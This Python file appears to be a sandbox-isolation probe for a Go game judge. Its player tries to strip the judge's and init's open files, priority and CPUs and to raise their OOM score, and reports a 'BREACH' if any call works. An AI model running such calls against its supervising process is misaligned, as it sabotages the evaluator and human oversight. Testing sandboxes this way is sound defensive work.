"""Takes priority, open files and processors away from the judge."""

import os
import resource


def first_legal(go, piece_type):
    points = ((i, j) for i in range(go.size) for j in range(go.size))
    return next(point for point in points if go.valid_place_check(*point, piece_type, test_check=True))


class MyPlayer:
    def get_input(self, go, piece_type):
        for pid in (1, os.getppid()):
            for hinder in (
                lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
                lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda pid=pid: os.sched_setaffinity(pid, {0}),
                lambda pid=pid: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
            ):
                try:
                    hinder()
                except OSError:
                    continue
                raise RuntimeError(f"BREACH: it hinders process {pid}")
        return first_legal(go, piece_type)
